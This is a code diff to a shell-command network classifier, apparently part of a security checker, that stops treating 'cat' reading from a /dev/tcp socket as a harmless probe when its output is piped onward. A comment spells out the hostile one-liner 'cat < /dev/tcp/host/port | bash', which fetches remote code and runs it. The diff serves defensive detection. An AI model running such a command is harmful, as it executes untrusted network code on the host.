@@ -65,7 +65,13 @@ def _network(cmd: SimpleCommand, pipe: Pipeline, parsed: ParsedCommand, ws: str 
     # anything echoed to a local port
     probe = (
         cmd.name in ("echo", ":", "true", "") and not cmd.args and all(">" in op for op, _ in sockets)
-    ) or (cmd.name == "cat" and not cmd.args and all(op == "<" for op, _ in sockets))
+    ) or (
+        # only when what it reads goes nowhere: `cat < /dev/tcp/host/port | bash` runs it
+        cmd.name == "cat"
+        and not cmd.args
+        and all(op == "<" for op, _ in sockets)
+        and pipe.commands[-1] is cmd
+    )
     probe = probe or (
         cmd.name in ("echo", "printf", ":", "true") and all(_LOOPBACK.match(t) for _, t in sockets)
     )
